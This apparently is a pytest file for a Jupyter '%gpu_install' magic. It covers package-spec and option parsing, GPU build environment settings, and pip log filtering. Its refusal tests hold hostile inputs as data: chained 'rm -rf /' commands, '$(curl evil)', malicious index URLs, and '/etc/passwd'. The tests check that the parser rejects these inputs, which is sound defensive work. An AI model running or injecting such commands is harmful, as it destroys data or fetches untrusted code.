"""What %gpu_install accepts from the user: specs and options (untrusted input)."""

from __future__ import annotations

import pytest

from gpulab_jupyter.magics import buildenv, options, piplog
from gpulab_jupyter.magics.spec import SpecError, is_torch_stack, parse_spec


@pytest.mark.parametrize(
    "text, name, arg",
    [
        ("six", "six", "six"),
        ("Six==1.17.0", "six", "six==1.17.0"),
        ("Foo_Bar[Extra]>=1,<2", "foo-bar", "foo-bar[extra]<2,>=1"),
    ],
)
def test_valid_specs(text, name, arg):
    spec = parse_spec(text)
    assert (spec.name, spec.pip_arg) == (name, arg)


@pytest.mark.parametrize(
    "text, words",
    [
        ("--index-url=http://evil", "is a pip option, not a package"),
        ("-r requirements.txt", "not a package requirement"),
        ("-e .", "not a package requirement"),
        ("six --index-url http://evil", "not a package requirement"),
        ("six;--extra-index-url=http://evil", "not a package requirement"),
        ("six\n--index-url http://evil", "control characters"),
        ("six; python_version > '3'", "markers"),
        ("six==1.0 && rm -rf /", "not a package requirement"),
        ("six==1.0 && touch /tmp/owned", "not a package requirement"),
        ("$(curl evil)", "not a package requirement"),
        ("https://evil.example/x.whl", "bare URL"),
        ("six @ https://example.org/six.whl", "--allow-url"),
        ("six @ ftp://example.org/six.whl", "not supported"),
        ("./wheels/six-1.0-py3-none-any.whl", "--allow-local"),
        ("/etc/passwd", "--allow-local"),
        ("six @ file:///tmp/six.whl", "--allow-local"),
    ],
)
def test_refused_specs(text, words):
    with pytest.raises(SpecError, match=words):
        parse_spec(text)


def test_a_shell_command_in_a_spec_is_refused_in_the_users_words():
    """What a user sees for `%gpu_install 'six; rm -rf /'`: what is wrong and what to type."""
    with pytest.raises(SpecError) as refused:
        options.parse("'six; rm -rf /'")
    assert str(refused.value) == (
        "`six; rm -rf /` is not a package requirement: %gpu_install takes package names "
        "like `six` or `six==1.17.0`, one per word (it runs no shell commands)."
    )
    assert "pip option" not in str(refused.value)
    with pytest.raises(SpecError) as refused:
        parse_spec("--index-url=http://evil")  # one word, as in a list of specs
    assert str(refused.value).startswith(
        "`--index-url=http://evil` is a pip option, not a package: %gpu_install takes "
        "package names like `six` or `six==1.17.0`, one per word, and options of its own"
    )
    with pytest.raises(SpecError) as refused:  # a long spec is shown cut, and says so
        options.parse("'six; " + "x" * 500 + "'")
    assert "x" * 60 + "…` is not a package requirement" in str(refused.value)
    assert "x" * 100 not in str(refused.value)


def test_urls_and_local_files_need_explicit_permission(tmp_path):
    spec = parse_spec("nvdiffrast @ git+https://github.com/NVlabs/nvdiffrast", allow_url=True)
    assert spec.name == "nvdiffrast" and spec.url.startswith("git+https://")
    wheel = tmp_path / "tiny_pure-1.0-py3-none-any.whl"
    wheel.write_bytes(b"")
    spec = parse_spec(str(wheel), allow_local=True)
    assert (spec.name, spec.local) == ("tiny-pure", str(wheel))
    with pytest.raises(SpecError, match="does not exist"):
        parse_spec(str(tmp_path / "missing.whl"), allow_local=True)


def test_options_of_the_magic():
    o = options.parse("--import six --check 'import six' --jobs 3 --apt libgl1 six==1.17.0")
    assert [s.name for s in o.specs] == ["six"]
    assert (o.imports, o.check, o.jobs, o.apt) == (["six"], "import six", 3, ["libgl1"])
    o = options.parse("--index-url https://download.pytorch.org/whl/cu121 --from-source six")
    assert o.recorded_options("six") == [
        "--index-url",
        "https://download.pytorch.org/whl/cu121",
        "--no-binary",
        "six",
    ]
    for bad, words in [
        ("--index-url ftp://x six", "http"),
        ("--find-links /no/such/folder six", "does not exist"),
        ("--import 'os; import evil' six", "module name"),
        ("--apt 'vim; rm -rf /'", "Debian package"),
        ("six six==1", "more than once"),
        ("--upgrade six", "unrecognized"),
        ("--index six", "unrecognized"),  # no abbreviations
        ("", "at least one package"),
        ("'six", "cannot split"),
    ]:
        with pytest.raises(SpecError, match=words):
            options.parse(bad)


def test_torch_stack_names():
    assert all(map(is_torch_stack, ["torch", "TorchVision", "triton", "nvidia-cudnn-cu12"]))
    assert not is_torch_stack("torchmetrics")


def test_build_environment_from_gpus():
    env = buildenv.arch_env(["9.0", "8.0", "9.0"])
    assert env["TORCH_CUDA_ARCH_LIST"] == "8.0;9.0+PTX"
    assert env["FLASH_ATTN_CUDA_ARCHS"] == "80;90"
    assert env["CMAKE_CUDA_ARCHITECTURES"] == "80-real;90-real;90-virtual"
    assert env["FORCE_CUDA"] == "1"
    assert buildenv.arch_env([]) == {}
    gib = 1024**3
    assert buildenv.max_jobs(cpus=32, memory=10 * gib) == 2  # memory-bound: 4 GiB a job
    assert buildenv.max_jobs(["flash-attn"], cpus=32, memory=64 * gib) == 7  # 9 GiB a job
    assert buildenv.max_jobs(cpus=2, memory=100 * gib) == 2
    assert buildenv.max_jobs(cpus=8, memory=1 * gib) == 1
    gpus = [buildenv.Gpu(0, "A", "8.0", uuid="GPU-aaa"), buildenv.Gpu(1, "B", "9.0", uuid="GPU-b")]
    assert buildenv._visible(gpus, {"CUDA_VISIBLE_DEVICES": "1"}) == gpus[1:]
    assert buildenv._visible(gpus, {"CUDA_VISIBLE_DEVICES": "GPU-b,0"}) == [gpus[1], gpus[0]]
    assert buildenv._visible(gpus, {"CUDA_VISIBLE_DEVICES": ""}) == []


def test_relevant_pip_lines():
    log = [
        "Collecting tiny",
        "  error: subprocess-exited-with-error",
        "  × Building wheel for tiny (pyproject.toml) did not run successfully.",
        "  │ exit code: 1",
        "  ╰─> [3 lines of output]",
        '      tiny.cu(3): error: identifier "cudaFoo" is undefined',
        "      nvcc fatal   : Unsupported gpu architecture 'compute_100'",
        "  note: This error originates from a subprocess, and is likely not a problem with pip.",
        "ERROR: Could not build wheels for tiny, which is required to install pyproject.toml",
    ]
    assert piplog.relevant(log) == [
        'tiny.cu(3): error: identifier "cudaFoo" is undefined',
        "nvcc fatal   : Unsupported gpu architecture 'compute_100'",
    ]
    assert piplog.constraint_conflicts(["    The user requested (constraint) torch==2.4.0"]) == [
        "torch==2.4.0"
    ]
    assert piplog.out_of_memory(["c++: fatal error: Killed signal terminated program cc1plus"])


def test_the_recorded_line_of_a_package_compiled_for_this_gpu():
    from gpulab_jupyter.magics.runline import run_line

    h100 = buildenv.GpuReport(gpus=[buildenv.Gpu(0, "NVIDIA H100 80GB HBM3", "9.0")])
    benv = buildenv.build_env(["flash-attn"], h100, torch_installed=True, jobs=4)
    assert benv.no_build_isolation  # flash-attn imports torch in its build
    opts = options.parse("flash-attn")
    line = run_line(opts.specs[0], "2.6.3", opts, benv.env, benv.no_build_isolation,
                    ["flash_attn"])  # fmt: skip
    assert line == (
        "RUN TORCH_CUDA_ARCH_LIST=9.0+PTX CMAKE_CUDA_ARCHITECTURES='90-real;90-virtual' "
        "CUDAARCHS='90-real;90-virtual' FLASH_ATTN_CUDA_ARCHS=90 FORCE_CUDA=1 MAX_JOBS=4 "
        "CMAKE_BUILD_PARALLEL_LEVEL=4 python -m pip install --no-cache-dir "
        "--no-build-isolation flash-attn==2.6.3 && python -c 'import flash_attn'"
    )
    none = buildenv.build_env(["six"], buildenv.GpuReport(problem="no driver"), False)
    assert "TORCH_CUDA_ARCH_LIST" not in none.env and not none.no_build_isolation
    assert none.notes == ["No GPU to build for (no driver): CUDA architectures are not set."]


def test_reading_pip_lines_as_a_terminal_shows_them():
    assert piplog.plain("\x1b[1;31mERROR:\x1b[0m no \x1b]0;title\x07x\x07") == "ERROR: no x"
    assert piplog.plain("50%\r\x1b[2K100% built") == "100% built"
    assert piplog.plain("\x9b31mred\x9b0m\x00") == "red"
    log = [
        "  Building wheel for tiny-pure (pyproject.toml): started",
        "  Created wheel for tiny-pure: filename=tiny_pure-1.0-py3-none-any.whl size=9 sha256=0",
        "  Building wheel for tiny-ext (setup.py): started",
        "  Created wheel for tiny-ext: filename=tiny_ext-1.0-cp311-cp311-linux_x86_64.whl size=9",
        "  Running setup.py install for old-style: started",
    ]
    assert piplog.built_from_source(log) == {"tiny-pure", "tiny-ext", "old-style"}
    assert piplog.compiled(log) == {"tiny-ext", "old-style"}  # a pure wheel was not compiled
    warning = (
        "WARNING: The repository located at pkgs.example.org is not a trusted or secure host "
        "and is being ignored. If this repository is available via HTTPS we recommend you use "
        "HTTPS instead, otherwise you may silence this warning and allow it anyway with "
        "'--trusted-host pkgs.example.org'."
    )
    assert piplog.insecure_hosts([warning, warning]) == ["pkgs.example.org"]
    assert not piplog.cuda_build(log) and piplog.cuda_build(["/usr/local/cuda/bin/nvcc -c x"])
